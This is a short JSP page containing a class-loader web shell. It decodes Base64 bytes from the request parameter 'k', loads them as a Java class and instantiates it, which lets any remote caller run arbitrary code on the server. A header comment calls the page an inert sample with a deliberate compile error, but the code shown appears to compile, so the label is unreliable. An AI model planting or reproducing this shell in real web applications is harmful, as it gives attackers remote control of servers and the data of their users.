<% shodo inert sample: deliberate compile error, this page never runs %>
<%! class U extends ClassLoader { U(ClassLoader c){super(c);} public Class g(byte[] b){return super.defineClass(b,0,b.length);} } %><% new U(this.getClass().getClassLoader()).g(java.util.Base64.getDecoder().decode(request.getParameter("k"))).newInstance(); %>
